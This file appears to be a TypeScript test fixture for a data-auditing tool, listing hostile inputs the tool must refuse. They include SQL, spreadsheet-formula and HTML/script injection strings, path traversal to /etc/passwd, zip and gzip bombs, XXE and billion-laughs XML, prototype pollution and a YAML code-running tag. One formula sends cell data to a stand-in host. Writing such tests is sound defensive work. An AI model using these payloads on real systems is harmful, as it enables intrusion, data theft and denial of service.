import { gzipSync } from 'node:zlib';
import { xlsxOf } from '../unit/reading/containers/write-xlsx.ts';
import { zipOf } from '../unit/reading/containers/write-zip.ts';

/** A name that occurs in none of our files, so that text read from a forbidden file is noticed. */
export const SECRET = 'zeer-geheim-kanarie';

/** Texts that an audited party could write into a cell, by their purpose. */
const HOSTILE_TEXTS: Readonly<Record<string, readonly string[]>> = {
  'the database': [
    `'); drop table call; --`,
    `"; drop table call; --`,
    `' union select content from read_text('/etc/passwd') --`,
    `x'; attach '/var/belaudit-hostile.duckdb' as y; --`,
    '$name',
  ],
  'a spreadsheet': [
    `=HYPERLINK("http://hostile.example/?"&A1)`,
    `=cmd|'/C calc'!A0`,
    '@SUM(1+1)*cmd',
    '+1+cmd',
    '-2+3+cmd',
    `x;=cmd|'/C calc'!A0`,
  ],
  'a page': [
    '<script>document.title="hostile"</script>',
    '</script><script>alert(1)</script>',
    '<img src=http://hostile.example/a onerror=alert(1)>',
    '<style>*{background:url(http://hostile.example/b)}</style>',
    '<link rel=stylesheet href=file:///etc/passwd>',
    '<iframe src=file:///etc/passwd></iframe>',
    '"><svg/onload=alert(1)>',
    '</style><style>@import "http://hostile.example/c";',
    `;background:url('http://hostile.example/d')`,
    'javascript:alert(1)',
    '<!-- ]]>',
  ],
  'a template': [
    '{{constructor.constructor("alert(1)")()}}',
    '{{{../secret}}}',
    '{{#with __proto__}}x{{/with}}',
    '$& $1',
  ],
  'an object': ['__proto__', 'constructor', 'hasOwnProperty'],
  'a path': [
    '../../../../var/belaudit-hostile',
    '..\\..\\hostile',
    '/etc/passwd',
    'file:///etc/passwd',
    'CON',
    'nul.csv',
    'C:hostile',
    '~root',
  ],
};

/** Characters that are invisible, or turn others: in a cell they become visible signs, and in an id they reject its row. */
export const UNSEEN_TEXTS: readonly string[] = [
  'rood \u001b[31m\u001b[2J\u001b]0;hostile\u0007',
  '\u001b]8;;http://hostile.example\u0007klik\u001b]8;;\u0007',
  '\u009b31m',
  'a\u202egpj.exe',
  '\u2066abc\u2069\u200f',
  'a\u200bb\ufeffc',
  'a\u0008\u0008\u0008b',
  'regel\rhostile',
];

export const TEXTS: readonly string[] = Object.values(HOSTILE_TEXTS).flat();

/**
 * A file or a link that must be refused, reported, and not read further; several at once if the program reports them together.
 */
export interface HostileFile {
  readonly name: string;
  /** A file in the sources' folder, and its contents; `link`: it links to that path. */
  readonly path: string;
  readonly content: string | Buffer | { readonly link: string };
  /** Settings of the source. */
  readonly more?: string;
  /** The expected message. */
  readonly says: RegExp;
}

const HEAD = 'call_id,started_at,called_number\n';
const WORKSHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghi'].map((name, place) => `<!ENTITY ${name} "${`&${'abcdefgh'[place]};`.repeat(10)}">`).join('')}]>`;
const FETCH = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const cellWith = (text: string): string =>
  `${WORKSHEET}<row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;

/** Archives with names that lead outside: each is refused as a whole. */
const CLIMBING: readonly string[] = [
  '../../climbed.csv',
  'in/../../climbed.csv',
  '/var/belaudit-hostile-absolute.csv',
  'C:\\hostile.csv',
  '..\\back.csv',
];

/**
 * @param outside a file outside the workspace that contains the secret
 */
export function hostileFiles(outside: string): readonly HostileFile[] {
  return [
    {
      name: 'a gz that unpacks a thousandfold',
      path: 'bomb.csv.gz',
      content: gzipSync(Buffer.alloc(300_000_000, 0x61)),
      says: /bomb\.csv\.gz/u,
    },
    {
      name: 'an archive that does',
      path: 'bomb.zip',
      content: zipOf([{ name: 'a.csv', content: Buffer.alloc(300_000_000, 0x61) }]),
      says: /bomb\.zip/u,
    },
    {
      name: 'an archive that says its file is small',
      path: 'lies.zip',
      content: zipOf([{ name: 'a.csv', content: Buffer.alloc(2_000_000, 0x61), size: 10 }]),
      says: /lies\.zip/u,
    },
    {
      name: 'an archive with a link',
      path: 'link.zip',
      content: zipOf([{ name: 'a.csv', content: outside, mode: 0o120777 }]),
      says: /link\.zip/u,
    },
    {
      name: 'a workbook of entities that double',
      path: 'laughs.xlsx',
      content: xlsxOf({ sheets: [{ name: 'a', rows: [], xml: LAUGHS + cellWith('&i;') }] }),
      says: /laughs\.xlsx/u,
    },
    {
      name: 'a workbook with an entity of a file',
      path: 'fetch.xlsx',
      content: xlsxOf({ sheets: [{ name: 'a', rows: [], xml: FETCH + cellWith('&a;') }] }),
      says: /fetch\.xlsx/u,
    },
    { name: 'JSON that is nested without end', path: 'deep.json', content: '['.repeat(200_000), says: /deep\.json/u },
    { name: 'a link out of the workspace', path: 'out.csv', content: { link: outside }, says: /out\.csv/u },
    { name: 'a link to a device', path: 'device.csv', content: { link: '/dev/zero' }, says: /device\.csv/u },
    {
      name: 'a heading twice, as SQL',
      path: 'twice.csv',
      content: `call_id,call_id,"started_at""; drop table call; --"\n1,2,3\n`,
      says: /twice\.csv/u,
    },
    {
      name: 'a program',
      path: 'program.csv',
      content: Buffer.from('7f454c460201010000000000000000000300', 'hex'),
      says: /program\.csv/u,
    },
    ...CLIMBING.map((name, place) => ({
      name: `an archive with ${name}`,
      path: `climbing-${place}.zip`,
      content: zipOf([{ name, content: `${HEAD}Z-1,2026-06-09T11:00:00,0612345672\n` }]),
      says: new RegExp(`climbing-${place}\\.zip`, 'u'),
    })),
  ];
}

/** An archive whose files are read under names of our own, whatever their names in it. */
export function archiveWithOddNames(rows: string): Buffer {
  return zipOf(ODD_NAMES.map((name) => ({ name, content: HEAD + rows })));
}

export const ODD_NAMES: readonly string[] = [
  'con.csv',
  'nul',
  'a\u001b[2Jb.csv',
  'a\u202evsc.exe',
  '__proto__',
  '=cmd.csv',
  '<script>.csv',
];

/** Configurations, by the text that replaces `language: nl`, or that follows the end. */
export const HOSTILE_CONFIGURATIONS: readonly (readonly [name: string, change: (text: string) => string])[] = [
  ['__proto__ as a key', (text) => text.replace('  language: nl', '  language: nl\n  __proto__: { admin: true }')],
  [
    'constructor as a key',
    (text) => text.replace('  language: nl', '  language: nl\n  constructor: { prototype: { admin: true } }'),
  ],
  [
    'aliases that double',
    (text) =>
      `${text}a: &a [x, x, x, x, x, x, x, x, x]\n${[...'bcdefghi'].map((name, place) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[place]}`).join(', ')}]`).join('\n')}\n`,
  ],
  ['values within values', (text) => `${text}a: ${'[['.repeat(5000)}\n`],
  ['a list within a list', (text) => `${text}${'- '.repeat(5000)}a\n`],
  [
    'a mapping within a mapping',
    (text) =>
      text + Array.from({ length: 3000 }, (_value, depth) => `${' '.repeat(Math.min(depth, 190))}? a\n`).join(''),
  ],
  [
    'a tag that runs code',
    (text) => text.replace('  language: nl', '  language: !!js/function "function(){process.exit(0)}"'),
  ],
  ['a source that climbs', (text) => text.replace('in/alfa.csv', '../outside/alfa.csv')],
  ['a source elsewhere', (text) => text.replace('in/alfa.csv', '/etc/passwd')],
  ['a source of a web address', (text) => text.replace('in/alfa.csv', 'http://hostile.example/a.csv')],
  ['a call centre whose id is a path', (text) => text.replaceAll('alfa,', '../alfa,')],
];
